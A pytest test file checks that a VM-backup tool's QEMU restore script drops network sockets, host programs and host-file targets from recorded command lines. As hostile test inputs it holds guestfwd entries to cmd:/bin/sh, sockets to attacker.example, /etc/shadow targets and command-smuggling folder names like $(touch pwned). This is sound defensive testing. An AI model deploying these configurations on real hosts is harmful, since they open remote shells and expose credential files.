"""A restored QEMU VM's script opens no network socket the snapshot asked for, and names
nothing outside its own folder and the restored disks (design/repository-format.md, 10.8).

The recorded command line comes from the storage: a monitor or QMP on a TCP port is host
command execution for whoever connects (HMP ``migrate "exec:..."``), a client socket connects
to a host the snapshot chose, a port forward listens on every address of the host, and a
relative name resolves in whatever folder the script is started from.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import socket
import stat
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from vmvault.hypervisors.qemu_restore import RestoredVM, write_restore_files

UUID = "0b0a3d7c-2a0e-4d54-8a43-7b4ab2d7c001"
#: prefixes of a network address in a character device or display value
NET_FORM = re.compile(r"(?:^|[=,:])(?:mon:)?(tcp|udp|telnet|tn3270|websocket|inet|vsock):", re.IGNORECASE)
#: properties of a kept character device that give a network address or a socket outside the
#: folder (the kinds kept are ``_CHARDEVS``; udp becomes socket)
CHARDEV_NET_KEYS = frozenset(["host", "port", "to", "ipv4", "ipv6", "localaddr", "localport", "abstract", "tight",
                              "fd", "logfile"])  # fmt: skip
#: properties of a kept network backend (user, tap, bridge, hubport, none, nic) that name a host
#: program, file, descriptor or interface, or a remote address
NETDEV_HOST_KEYS = frozenset(["guestfwd", "smb", "tftp", "bootfile", "fd", "fds", "vhostfd", "vhostfds",
                              "script", "downscript", "helper", "ifname"])  # fmt: skip
KEPT_NETDEVS = {"user", "tap", "bridge", "hubport", "none", "nic"}


def record(*options: str, disk: str = "/vm/web.qcow2") -> dict[str, Any]:
    return {
        "name": "web",
        "uuid": UUID,
        "disks": [{"device": "vda", "node": "d0", "format": "qcow2", "file": disk}],
        "nics": [],
        "cmdline": ["qemu-system-x86_64", *options],
    }


def restore(tmp_path: Path, *options: str, clone: str | None = None) -> RestoredVM:
    out = tmp_path / "out"
    shutil.rmtree(out, ignore_errors=True)
    return write_restore_files(
        record(*options), {"vda": str(out / "vda.raw")}, str(out), as_clone=clone, formats={"vda": "raw"}
    )


def script_argv(script: str) -> list[str]:
    import shlex

    text = Path(script).read_text()
    return shlex.split(text.split("\nexec ", 1)[1].replace("\\\n", " "))[:-1]


def options_of(argv: list[str]) -> list[tuple[str, str]]:
    """(option, value) pairs of a script's command line (flags have no value here)."""
    return [(a, argv[i + 1]) for i, a in enumerate(argv[:-1]) if a.startswith("-") and not argv[i + 1].startswith("-")]


def keyval(value: str) -> list[tuple[str, str]]:
    if value.lstrip().startswith("{"):
        return [(k, str(v)) for k, v in json.loads(value).items()]
    parts = value.replace(",,", "\0").split(",")
    return [(k, v.replace("\0", ",")) for k, _, v in (p.partition("=") for p in parts)]


def kind_of(pairs: list[tuple[str, str]], key: str) -> str:
    if pairs and pairs[0][1] == "" and pairs[0][0]:
        return pairs[0][0]
    return next((v for k, v in pairs if k == key), "")


def assert_no_network(rv: RestoredVM, out: Path) -> None:
    """No character device, display or network backend of the script opens or connects a
    network socket, or names a host interface or program; the only network form left is a
    port forward on 127.0.0.1 of a plain restore."""
    for opt, value in options_of(script_argv(rv.script)[1:]):
        pairs = keyval(value)
        for key, val in pairs:
            assert key == "hostfwd" or not NET_FORM.search(val), (opt, value)
        if opt in ("-netdev", "-nic", "-net"):
            kind = kind_of(pairs, "type")
            assert kind in KEPT_NETDEVS, value
            for key, val in pairs:
                if key == "hostfwd":
                    assert not rv.name.endswith("-clone"), value
                    assert re.fullmatch(r"(tcp|udp):127\.0\.0\.1:\d+-[0-9.]*:\d+", val), value
                else:
                    assert key not in NETDEV_HOST_KEYS or (key, val) in (("script", "no"), ("downscript", "no")), value
        if opt == "-chardev":
            assert kind_of(pairs, "backend") not in ("udp", ""), value
            assert not {k for k, _ in pairs} & CHARDEV_NET_KEYS, value
            assert all(v.startswith(f"{out}/") for k, v in pairs if k == "path"), value
        if opt == "-audiodev":
            assert "server" not in {k for k, _ in pairs}, value
        if opt in ("-serial", "-monitor", "-qmp", "-qmp-pretty", "-parallel"):
            target = value.removeprefix("mon:")
            assert not NET_FORM.match(target) and (not target.startswith("unix:") or target.startswith(f"unix:{out}/"))
        assert opt != "-vnc" or value == "none" or value.startswith(f"unix:{out}/"), value
        assert opt != "-display" or not value.startswith("vnc"), value
        assert opt != "-gdb", value


# -- character devices --------------------------------------------------------------------------

NET_CHARS = [
    ("-monitor", "tcp:0.0.0.0:4444,server,nowait"),
    ("-monitor", "telnet::4444,server=on,wait=off"),
    ("-qmp", "tcp:localhost:4444,server=on,wait=off"),
    ("-qmp-pretty", "tcp::4444,server"),
    ("-serial", "telnet:0.0.0.0:4444,server,nowait"),
    ("-serial", "mon:telnet::4445,server,nowait"),
    ("-serial", "udp:attacker.example:4555@:4556"),
    ("-serial", "tn3270::2323,server"),
    ("-serial", "websocket:0.0.0.0:5700,server=on"),
    ("-parallel", "tcp:attacker.example:80"),
    ("-serial", "tcp:[::]:4444,server,ipv6"),
]


@pytest.mark.parametrize(("option", "value"), NET_CHARS)
def test_a_network_character_device_becomes_a_unix_socket_in_the_folder(
    tmp_path: Path, option: str, value: str
) -> None:
    rv = restore(tmp_path, option, value)
    out = tmp_path / "out"
    argv = script_argv(rv.script)
    kept = argv[argv.index(option) + 1]
    prefix = "mon:" if value.startswith("mon:") else ""
    sock = f"{out}/{option.lstrip('-')}.sock"
    assert kept == f"{prefix}unix:{sock},server=on,wait=off"
    assert [w for w in rv.warnings if w.startswith(f"{option} {value!r}") and sock in w], rv.warnings
    if option.startswith("-qmp"):
        assert rv.qmp_socket == sock
    assert_no_network(rv, out)


NET_CHARDEVS = [
    "socket,id=c0,host=0.0.0.0,port=4444,server=on,wait=off",
    "socket,id=c0,host=attacker.example,port=80",  # a client: connects out
    "socket,id=c0,port=4444,server=on,telnet=on,nodelay=on",
    "socket,id=c0,host=::,port=4444,to=4460,ipv6=on,server=on,wait=off,websocket=on",
    "socket,id=c0,host=10.0.0.1,port=80,path=/run/x.sock",  # both: the address goes too
    "socket,id=c0,host=attacker.example,port=80,reconnect=5,tls-creds=tls0",
    "socket,id=c0,fd=3",  # (fd= is a host descriptor: gone, and a socket needs an address)
    "udp,id=c0,host=attacker.example,port=9,localaddr=0.0.0.0,localport=4444",
    "backend=udp,id=c0,port=9",
    "backend=socket,id=c0,host=0.0.0.0,port=4444,server=on,mux=on",
    '{"backend":"socket","id":"c0","host":"0.0.0.0","port":"4444","server":true,"wait":false}',
]


@pytest.mark.parametrize("value", NET_CHARDEVS)
@pytest.mark.parametrize("user", ["-mon", "-serial", "-device"])
def test_a_network_chardev_becomes_a_unix_socket_and_its_users_keep_it(tmp_path: Path, value: str, user: str) -> None:
    use = {"-mon": "chardev=c0,mode=control", "-serial": "chardev:c0", "-device": "isa-serial,chardev=c0"}[user]
    rv = restore(tmp_path, "-chardev", value, user, use)
    out = tmp_path / "out"
    argv = script_argv(rv.script)
    chardev = argv[argv.index("-chardev") + 1]
    mux = ",mux=on" if "mux=on" in value else ""
    assert chardev == f"socket,id=c0{mux},path={out}/c0.sock,server=on,wait=off"
    assert argv[argv.index(user) + 1] == use  # what uses it is kept: the guest's hardware stays
    said = "has no path" if value == "socket,id=c0,fd=3" else "opens or connects a network socket"
    assert [w for w in rv.warnings if w.startswith(f"-chardev {value!r} {said}: ")], rv.warnings
    assert_no_network(rv, out)


def test_a_unix_chardev_leaves_the_abstract_namespace(tmp_path: Path) -> None:
    """An abstract socket is no file: any local user may connect to it, whatever the folder's
    permissions; the socket becomes a file in the output folder."""
    rv = restore(tmp_path, "-chardev", "socket,id=m,path=qmp,abstract=on,tight=off,server=on,wait=off")
    argv = script_argv(rv.script)
    assert argv[argv.index("-chardev") + 1] == f"socket,id=m,path={tmp_path}/out/qmp,server=on,wait=off"
    assert [w for w in rv.warnings if "abstract=" in w] and [w for w in rv.warnings if "tight=" in w]


@pytest.mark.parametrize(
    "value",
    ["file:/etc/shadow", "pipe:/tmp/p", "/dev/ttyS0", "COM1", "unix:/x,abstract=on", "unix:/x,logfile=/etc/passwd",
     "mon:file:/etc/shadow", "chardev:gone"],
)  # fmt: skip
def test_character_device_targets_on_host_files_are_still_left_out(tmp_path: Path, value: str) -> None:
    rv = restore(tmp_path, "-chardev", "file,id=gone,path=/etc/shadow", "-serial", value)
    assert "-serial" not in script_argv(rv.script)
    assert [w for w in rv.warnings if w.startswith("-serial ") and "left out" in w]


@pytest.mark.parametrize("value", ["stdio", "mon:stdio", "pty", "null", "none", "vc:80Cx24C", "chardev:c0"])
def test_local_character_device_targets_are_kept(tmp_path: Path, value: str) -> None:
    rv = restore(tmp_path, "-chardev", "pty,id=c0", "-serial", value)
    argv = script_argv(rv.script)
    assert argv[argv.index("-serial") + 1] == value and not rv.warnings


@pytest.mark.parametrize(
    ("option", "value", "gone"),
    [
        ("-display", "dbus,addr=tcp:host=attacker.example,port=1", "addr="),  # a D-Bus bus elsewhere
        ("-device", "virtio-serial-pci,id=s0,x=inet:0.0.0.0:1", "x="),
        ("-global", "driver=isa-serial,property=x,value=vsock:2:1", "value="),
        ("-machine", "q35,x=fd:3", "x="),
        ("-object", "iothread,id=io0,x=TCP:attacker.example:1", "x="),
    ],
)
def test_a_property_in_socket_syntax_is_left_out(tmp_path: Path, option: str, value: str, gone: str) -> None:
    rv = restore(tmp_path, option, value)
    argv = script_argv(rv.script)
    assert not [a for a in argv if gone in a and NET_FORM.search(a)], argv
    assert [w for w in rv.warnings if f"{gone} is left out (a network address)" in w or "left out:" in w]


# -- names in the output folder -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("options", "avoided"),
    [
        # QEMU unlinks a socket's path before binding it: the restored disk would go
        (["-qmp", "unix:/run/vda.raw,server=on,wait=off"], "vda.raw"),
        (["-chardev", "socket,id=c,path=/x/vda.raw,server=on,wait=off"], "vda.raw"),
        # and truncates the pid file
        (["-pidfile", "/var/run/vda.raw"], "vda.raw"),
        (["-pidfile", "/x/run-web.sh"], "run-web.sh"),
        (["-qmp", "unix:/x/web.xml,server=on,wait=off"], "web.xml"),
        # two recorded sockets of one name, in different folders
        (["-qmp", "unix:/a/q.sock,server", "-monitor", "unix:/b/q.sock,server"], "q.sock"),
        (["-serial", "tcp::1,server", "-serial", "tcp::2,server"], "serial.sock"),
        # a file already in the folder (a file of the restored VM folder)
        (["-pidfile", "/run/vm.conf"], "vm.conf"),
    ],
)
def test_runtime_files_never_take_a_restored_or_existing_name(tmp_path: Path, options: list[str], avoided: str) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "vda.raw").write_bytes(b"disk")
    (out / "vm.conf").write_text("name=web\n")
    rv = write_restore_files(record(*options), {"vda": str(out / "vda.raw")}, str(out), formats={"vda": "raw"})
    argv = script_argv(rv.script)
    named = [m for a in argv[1:] for m in re.findall(rf"{re.escape(str(out))}/([^,]+)", a)]
    assert named and len(named) == len(set(named)), named
    assert named.count(avoided) <= (1 if avoided in ("q.sock", "serial.sock") else 0), named
    assert (out / "vda.raw").read_bytes() == b"disk" and (out / "vm.conf").read_text() == "name=web\n"


@pytest.mark.parametrize("path", ["/run/.hidden", "/run/..", "/run/", "/run/a b;$(x)", "/run/x,server=off"])
def test_runtime_file_names_are_plain_and_visible(tmp_path: Path, path: str) -> None:
    rv = restore(tmp_path, "-qmp", f"unix:{path.replace(',', ',,')},server=on,wait=off")
    assert rv.qmp_socket is not None
    name = os.path.basename(rv.qmp_socket)
    assert os.path.dirname(rv.qmp_socket) == str(tmp_path / "out")
    assert re.fullmatch(r"[A-Za-z0-9_-][A-Za-z0-9._-]*", name), name


# -- network backends ---------------------------------------------------------------------------

REFUSED_NETDEVS = [
    "socket,id=n0,listen=:1234",
    "socket,id=n0,connect=attacker.example:1234",
    "socket,id=n0,mcast=230.0.0.1:1234,localaddr=0.0.0.0",
    "socket,id=n0,udp=attacker.example:1234,localaddr=:1235",
    "stream,id=n0,server=on,addr.type=inet,addr.host=0.0.0.0,addr.port=1234",
    "dgram,id=n0,remote.type=inet,remote.host=attacker.example,remote.port=1234",
    "vde,id=n0,sock=/tmp/vde.ctl",
    "l2tpv3,id=n0,src=0.0.0.0,dst=attacker.example,udp=on,srcport=1,dstport=2,txsession=1",
    "vhost-user,id=n0,chardev=c0",
    "vhost-vdpa,id=n0,vhostdev=/dev/vhost-vdpa-0",
    "netmap,id=n0,ifname=vale0:0",
    "af-xdp,id=n0,ifname=eth0",
    "vmnet-shared,id=n0",
    "id=n0,type=socket,listen=:1234",
    '{"type":"stream","id":"n0","server":true,"addr":{"type":"inet","host":"0.0.0.0","port":"1234"}}',
    '{"type":"socket","id":"n0","listen":":1234"}',
]


@pytest.mark.parametrize("value", REFUSED_NETDEVS)
def test_network_backends_that_reach_the_network_or_host_sockets_are_left_out(tmp_path: Path, value: str) -> None:
    rv = restore(tmp_path, "-netdev", value, "-device", "virtio-net-pci,netdev=n0,id=nic0")
    argv = script_argv(rv.script)
    assert "-netdev" not in argv and not [a for a in argv if "netdev=n0" in a]
    assert [w for w in rv.warnings if w.startswith("-netdev ") and "left out" in w]
    assert [w for w in rv.warnings if w.startswith("-device ") and "'n0'" in w]


@pytest.mark.parametrize("option", ["-nic", "-net"])
@pytest.mark.parametrize("kind", ["socket,listen=:1234", "stream,addr.type=inet,addr.host=0.0.0.0", "vde", "l2tpv3"])
def test_legacy_network_options_refuse_the_same_backends(tmp_path: Path, option: str, kind: str) -> None:
    rv = restore(tmp_path, option, kind)
    assert option not in script_argv(rv.script)


@pytest.mark.parametrize(
    ("value", "gone"),
    [
        ("tap,id=n0,script=/etc/evil-ifup,downscript=/tmp/x", ["script=", "downscript="]),
        ("tap,id=n0,helper=/tmp/evil-helper,br=br0", ["helper="]),
        ("tap,id=n0,fd=3,vhost=on,vhostfd=4", ["fd=", "vhostfd="]),
        ("tap,id=n0,fds=3:4,vhostfds=5:6,queues=2", ["fds=", "vhostfds="]),
        ("tap,id=n0,ifname=vnet0,queues=4", ["ifname="]),  # would join that (multiqueue) tap
        ("tap,id=n0,script=evil-ifup", ["script="]),  # a bare name: a program in some folder
        ("bridge,id=n0,br=br0,helper=/tmp/evil-helper", ["helper="]),
        ("user,id=n0,smb=/,smbserver=10.0.2.4", ["smb="]),  # (smbserver= is the guest's side)
        ("user,id=n0,tftp=/etc,bootfile=shadow", ["tftp=", "bootfile="]),
        ("user,id=n0,guestfwd=tcp:10.0.2.100:1234-cmd:/bin/sh", ["guestfwd="]),
        ("user,id=n0,guestfwd=tcp:10.0.2.100:1234-tcp:attacker.example:80", ["guestfwd="]),
        ("user,id=n0,guestfwd=tcp:10.0.2.100:1234-chardev:c0", ["guestfwd="]),
    ],
)
def test_kept_network_backends_lose_host_programs_files_and_interfaces(
    tmp_path: Path, value: str, gone: list[str]
) -> None:
    rv = restore(tmp_path, "-netdev", value, "-device", "e1000,netdev=n0,id=nic0")
    argv = script_argv(rv.script)
    kept = argv[argv.index("-netdev") + 1]
    assert kept.startswith(value.split(",", 1)[0] + ",id=n0")
    for key in gone:
        assert f",{key}" not in kept and [w for w in rv.warnings if f"{key} is left out" in w], (key, kept)
    assert "e1000,netdev=n0,id=nic0" in argv
    assert_no_network(rv, tmp_path / "out")


def test_a_tap_that_runs_no_script_keeps_saying_so(tmp_path: Path) -> None:
    """Without script=no QEMU would run this host's /etc/qemu-ifup."""
    rv = restore(tmp_path, "-netdev", "tap,id=n0,script=no,downscript=no,vhost=on")
    argv = script_argv(rv.script)
    assert sorted(argv[argv.index("-netdev") + 1].split(",")) == [
        "downscript=no",
        "id=n0",
        "script=no",
        "tap",
        "vhost=on",
    ]


HOSTFWDS = [
    ("tcp::2222-:22", "tcp:127.0.0.1:2222-:22"),
    ("tcp:0.0.0.0:2222-10.0.2.15:22", "tcp:127.0.0.1:2222-10.0.2.15:22"),
    (":192.168.1.5:8080-:80", "tcp:127.0.0.1:8080-:80"),
    ("udp::5353-:53", "udp:127.0.0.1:5353-:53"),
    ("tcp:127.0.0.1:2222-:22", "tcp:127.0.0.1:2222-:22"),
]


@pytest.mark.parametrize("option", ["-netdev", "-nic", "-net"])
@pytest.mark.parametrize(("fwd", "bound"), HOSTFWDS)
def test_a_port_forward_listens_on_loopback_only(tmp_path: Path, option: str, fwd: str, bound: str) -> None:
    rv = restore(tmp_path, option, f"user,id=n0,hostfwd={fwd},hostfwd=tcp::2223-:23")
    argv = script_argv(rv.script)
    kept = argv[argv.index(option) + 1]
    assert kept == f"user,id=n0,hostfwd={bound},hostfwd=tcp:127.0.0.1:2223-:23"
    assert len([w for w in rv.warnings if "listens on 127.0.0.1 only" in w]) == 1 + (fwd != bound)
    assert_no_network(rv, tmp_path / "out")


@pytest.mark.parametrize("option", ["-netdev", "-nic", "-net"])
@pytest.mark.parametrize(("fwd", "bound"), HOSTFWDS)
def test_a_clone_has_no_port_forward(tmp_path: Path, option: str, fwd: str, bound: str) -> None:
    """A clone runs beside the original, which holds the port."""
    rv = restore(tmp_path, option, f"user,id=n0,hostfwd={fwd},restrict=off", clone="web-clone")
    argv = script_argv(rv.script)
    kept = argv[argv.index(option) + 1]
    assert re.sub(r",mac=[0-9a-f:]+$", "", kept) == "user,id=n0,restrict=off"  # (-nic: a new MAC)
    assert [w for w in rv.warnings if "hostfwd=" in w and "beside the original" in w]


@pytest.mark.parametrize(
    "fwd", ["tcp:[::]:2222-:22", "unix:/tmp/s-:22", "sctp::1-:1", "tcp::2222", "tcp::22-:22,,x=y", "tcp:a.b:1-:1"]
)
def test_a_port_forward_vmvault_cannot_read_is_left_out(tmp_path: Path, fwd: str) -> None:
    rv = restore(tmp_path, "-netdev", f"user,id=n0,hostfwd={fwd}")
    argv = script_argv(rv.script)
    assert argv[argv.index("-netdev") + 1] == "user,id=n0"
    assert [w for w in rv.warnings if "hostfwd= is left out" in w or "not a port forward" in w]


def test_a_json_user_network_is_held_to_the_same_rule(tmp_path: Path) -> None:
    rv = restore(tmp_path, "-netdev", '{"type":"user","id":"n0","hostfwd":"tcp::2222-:22","ipv6":false}')
    argv = script_argv(rv.script)
    assert json.loads(argv[argv.index("-netdev") + 1]) == {
        "type": "user", "id": "n0", "hostfwd": "tcp:127.0.0.1:2222-:22", "ipv6": False
    }  # fmt: skip


# -- displays and sound -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("option", "value"),
    [("-vnc", ":0"), ("-vnc", "0.0.0.0:1,websocket=5701"), ("-vnc", "attacker.example:5500,reverse=on"),
     ("-vnc", "[::]:2,password=on"), ("-vnc", "unix:/run/vnc,lossy=on"), ("-display", "vnc=:0")],
)  # fmt: skip
def test_a_vnc_display_is_a_unix_socket_in_the_folder(tmp_path: Path, option: str, value: str) -> None:
    rv = restore(tmp_path, option, value)
    argv = script_argv(rv.script)
    assert argv[argv.index("-vnc") + 1] == f"unix:{tmp_path}/out/vnc.sock" and "-display" not in argv
    assert bool([w for w in rv.warnings if "listens or connects on the network" in w]) != value.startswith("unix:")


def test_a_sound_server_elsewhere_is_left_out(tmp_path: Path) -> None:
    rv = restore(tmp_path, "-audiodev", "pa,id=a0,server=tcp:attacker.example:4713")
    argv = script_argv(rv.script)
    assert argv[argv.index("-audiodev") + 1] == "pa,id=a0" and [w for w in rv.warnings if "server=" in w]


# -- random command lines -----------------------------------------------------------------------

_ADDRESSES = ["0.0.0.0:4444", ":4444", "[::]:4444", "attacker.example:80", "localhost:1@:2", "127.0.0.1:0"]
_FLAGS = ["server", "nowait", "server=on", "wait=off", "telnet=on", "reconnect=1", "ipv4=on", "to=4450", "nodelay"]
_CHAR_KINDS = ["tcp:", "telnet:", "tn3270:", "websocket:", "udp:", "unix:/run/q", "mon:tcp:", "mon:unix:/x", "stdio"]
_KEYS = ["id", "host", "port", "to", "ipv4", "ipv6", "localaddr", "localport", "path", "abstract", "server", "wait",
         "telnet", "websocket", "mux", "fd", "hostfwd", "guestfwd", "smb", "ifname", "script", "helper", "listen",
         "connect", "mcast", "udp", "addr.host", "reverse", "chardev", "netdev"]  # fmt: skip
_VALUES = ["c0", "n0", "0.0.0.0", "attacker.example", "4444", "on", "off", "/run/x", "x.sock", "no",
           "tcp::2222-:22", "tcp:10.0.2.100:1-cmd:/bin/sh", "udp:0.0.0.0:53-:53", "tcp:attacker.example:80",
           "inet:0.0.0.0:1", "vsock:2:1"]  # fmt: skip
_BACKENDS = ["socket", "udp", "pty", "user", "tap", "bridge", "stream", "dgram", "vde", "pa", "vnc=:0", "none"]


def _values() -> st.SearchStrategy[str]:
    legacy = st.tuples(
        st.sampled_from(_CHAR_KINDS), st.sampled_from(_ADDRESSES), st.lists(st.sampled_from(_FLAGS))
    ).map(lambda t: ",".join([t[0] + (t[1] if t[0].endswith(":") else ""), *t[2]]))
    pair = st.tuples(st.sampled_from(_KEYS), st.sampled_from(_VALUES)).map(lambda kv: f"{kv[0]}={kv[1]}")
    kv = st.tuples(st.sampled_from(_BACKENDS), st.lists(pair, max_size=5)).map(lambda t: ",".join([t[0], *t[1]]))
    flat = st.dictionaries(
        st.sampled_from(["type", "backend", *_KEYS]), st.sampled_from(_VALUES + _BACKENDS), max_size=5
    )
    return legacy | kv | flat.map(json.dumps) | st.sampled_from(_ADDRESSES)


_NET_OPTIONS = ["-chardev", "-serial", "-monitor", "-qmp", "-qmp-pretty", "-mon", "-parallel", "-gdb", "-netdev",
                "-nic", "-net", "-vnc", "-display", "-audiodev"]  # fmt: skip


@settings(max_examples=300, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(options=st.lists(st.tuples(st.sampled_from(_NET_OPTIONS), _values()), max_size=10), clone=st.booleans())
@example(options=[("-chardev", "socket,id=c0,host=0.0.0.0,port=4444,server=on")], clone=False)
@example(options=[("-serial", "mon:tcp:0.0.0.0:4444,server,nowait")], clone=False)
@example(options=[("-netdev", "user,id=n0,hostfwd=tcp::2222-:22")], clone=True)
@example(options=[("-chardev", '{"backend": "udp", "host": "attacker.example", "id": "c0"}')], clone=False)
# a backend named under another option's key
@example(options=[("-netdev", '{"backend": "user"}'), ("-chardev", "type=socket,host=0.0.0.0,port=1")], clone=False)
def test_random_command_lines_open_no_network_socket(
    tmp_path: Path, options: list[tuple[str, str]], clone: bool
) -> None:
    rv = restore(tmp_path, *[a for pair in options for a in pair], clone="web-clone" if clone else None)
    assert_no_network(rv, tmp_path / "out")


# -- where the script runs ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "folder", ["out", "with space", "quote'd", "$(touch pwned)", "semi;colon`id`", "new\nline", "a,b"]
)
def test_the_script_runs_in_its_own_folder_wherever_it_is_started(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, folder: str
) -> None:
    """A relative name QEMU opens (a keymap, a ROM QEMU looks for) resolves in the output
    folder, not in the folder the script is started from; the folder's name is quoted."""
    fake = tmp_path / "bin"
    fake.mkdir()
    emulator = fake / "qemu-system-x86_64"
    emulator.write_text('#!/bin/sh\npwd -P > "$VMVAULT_PWD_LOG"\nprintf "%s\\n" "$@" > "$VMVAULT_ARGS_LOG"\n')
    emulator.chmod(0o755)
    monkeypatch.setenv("PATH", f"{fake}:{os.environ['PATH']}")
    out = tmp_path / folder
    rv = write_restore_files(
        record("-k", "en-us", "-qmp", "unix:/run/q.sock,server=on,wait=off"),
        {"vda": str(out / "vda.raw")}, str(out), formats={"vda": "raw"},
    )  # fmt: skip
    assert script_argv(rv.script)[0] == str(emulator)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    env = {**os.environ, "VMVAULT_PWD_LOG": str(tmp_path / "pwd"), "VMVAULT_ARGS_LOG": str(tmp_path / "args")}
    subprocess.run([rv.script, "-S"], cwd=elsewhere, env=env, check=True, timeout=30)
    assert (tmp_path / "pwd").read_text() == f"{out.resolve()}\n"
    args = (tmp_path / "args").read_text().split("\n")[:-1] if "\n" not in folder else None
    if args is not None:
        assert args[-1] == "-S" and args[: args.index("-S")] == script_argv(rv.script)[1:]
    assert not list(elsewhere.iterdir()) and not (out / "pwned").exists() and not Path("pwned").exists()


def test_the_script_stops_when_its_folder_is_gone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    fake = tmp_path / "bin"
    fake.mkdir()
    (fake / "qemu-system-x86_64").write_text(f"#!/bin/sh\ntouch {tmp_path}/ran\n")
    (fake / "qemu-system-x86_64").chmod(0o755)
    monkeypatch.setenv("PATH", f"{fake}:{os.environ['PATH']}")
    rv = restore(tmp_path)
    script = tmp_path / "run.sh"
    shutil.copy(rv.script, script)
    shutil.rmtree(tmp_path / "out")
    assert subprocess.run([str(script)], cwd=tmp_path, capture_output=True, timeout=30).returncode != 0
    assert not (tmp_path / "ran").exists()


def test_an_emulator_found_through_a_relative_path_entry_is_not_used(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``PATH=.:...`` would make the script run a file the restore wrote into its folder."""
    planted = tmp_path / "qemu-system-x86_64"
    planted.write_text("#!/bin/sh\n")
    planted.chmod(0o755)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PATH", f".:{os.environ['PATH']}")
    rv = restore(tmp_path)
    assert os.path.isabs(script_argv(rv.script)[0]) and script_argv(rv.script)[0] != str(planted)


# -- a real restored VM -------------------------------------------------------------------------


def inet_sockets(pid: int) -> list[tuple[str, str, str]]:
    """(protocol, local address, state) of every TCP and UDP socket the process holds."""
    inodes = set()
    for fd in os.listdir(f"/proc/{pid}/fd"):
        with contextlib.suppress(OSError):
            link = os.readlink(f"/proc/{pid}/fd/{fd}")
            if link.startswith("socket:["):
                inodes.add(link[8:-1])
    found = []
    for proto in ("tcp", "tcp6", "udp", "udp6"):
        with open(f"/proc/{pid}/net/{proto}", encoding="ascii") as f:
            next(f)
            found += [(proto, cols[1], cols[3]) for cols in map(str.split, f) if cols[9] in inodes]
    return found


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@contextlib.contextmanager
def started(script: str, sock: Path, cwd: Path) -> Iterator[tuple[subprocess.Popen[bytes], Any]]:
    from vmvault.hypervisors._qmp import QmpClient

    # started with the widest umask: the script's own ``umask 077`` must make its sockets private
    proc = subprocess.Popen(["sh", "-c", 'umask 000 && exec "$0"', script], cwd=cwd, stderr=subprocess.PIPE)
    try:
        deadline = time.monotonic() + 30
        while not sock.exists() and proc.poll() is None and time.monotonic() < deadline:
            time.sleep(0.1)
        assert proc.poll() is None, proc.stderr.read().decode() if proc.stderr else ""
        with QmpClient(str(sock), timeout=10).connect() as qmp:
            yield proc, qmp
            qmp.execute("quit")
        proc.wait(15)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()


@pytest.mark.integration
@pytest.mark.parametrize("clone", [None, "web-clone"])
def test_a_restored_vm_opens_no_network_socket_and_runs_in_its_folder(tmp_path: Path, clone: str | None) -> None:
    """The recorded command line puts QMP, the monitor and a serial port on TCP, connects a
    serial port to the "attacker" (a listener of this test), forwards a port from every
    address and serves VNC on the network. The restored VM starts, from another folder, in
    its own folder; it holds no TCP or UDP socket but the forward on 127.0.0.1 (none as a
    clone); nothing connected to the attacker; the monitor answers on its unix socket."""
    qemu_img = shutil.which("qemu-img")
    if qemu_img is None or shutil.which("qemu-system-x86_64") is None:
        pytest.skip("QEMU is not installed")
    out = tmp_path / "out"
    out.mkdir()
    disk = out / "vda.qcow2"
    subprocess.run([qemu_img, "create", "-q", "-f", "qcow2", str(disk), "16M"], check=True)
    attacker = socket.create_server(("127.0.0.1", 0))
    attacker.settimeout(1)
    fwd, qmp_port, mon_port = free_port(), free_port(), free_port()
    cmdline = [
        "-machine", "q35", "-m", "64", "-S", "-nodefaults",
        "-blockdev", '{"driver":"file","filename":"/vm/web.qcow2","node-name":"f0"}',
        "-blockdev", '{"driver":"qcow2","file":"f0","node-name":"d0"}',
        "-device", "virtio-blk-pci,drive=d0,id=vda",
        "-qmp", f"tcp:127.0.0.1:{qmp_port},server=on,wait=off",
        "-chardev", f"socket,id=hmp,host=0.0.0.0,port={mon_port},server=on,wait=off,telnet=on",
        "-mon", "chardev=hmp,mode=readline",
        "-chardev", f"socket,id=c1,host=127.0.0.1,port={attacker.getsockname()[1]}",
        "-device", "isa-serial,chardev=c1",
        "-serial", "udp:127.0.0.1:9@:0",
        "-netdev", f"user,id=n0,hostfwd=tcp:0.0.0.0:{fwd}-:22",
        "-device", "virtio-net-pci,netdev=n0,id=nic0",
        "-vnc", "0.0.0.0:0,websocket=on",
    ]  # fmt: skip
    vm = record(*cmdline, disk="/vm/web.qcow2") | {
        "nics": [{"id": "nic0", "model": "virtio-net-pci", "mac": "52:54:00:12:34:56"}]
    }
    rv = write_restore_files(vm, {"vda": str(disk)}, str(out), as_clone=clone, formats={"vda": "qcow2"})
    assert rv.qmp_socket == str(out / "qmp.sock")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    with started(rv.script, Path(rv.qmp_socket), elsewhere) as (proc, qmp):
        assert os.readlink(f"/proc/{proc.pid}/cwd") == str(out)
        held = inet_sockets(proc.pid)
        if clone:
            assert held == []
        else:  # the forward, listening (state 0A) on 127.0.0.1 (0100007F) only
            assert held == [("tcp", f"0100007F:{fwd:04X}", "0A")], held
        with pytest.raises(TimeoutError):
            attacker.accept()
        chardevs = {c["label"]: c["filename"] for c in qmp.execute("query-chardev")}
        assert chardevs["c1"].endswith(f"unix:{out}/c1.sock,server=on") or f"{out}/c1.sock" in chardevs["c1"]
        assert not [f for f in chardevs.values() if NET_FORM.search(f) or "tcp:" in f], chardevs
        assert qmp.execute("query-vnc")["family"] == "unix"
        with socket.socket(socket.AF_UNIX) as hmp:
            hmp.settimeout(10)
            hmp.connect(str(out / "hmp.sock"))
            assert b"QEMU" in hmp.recv(4096)  # the monitor is there, for its owner
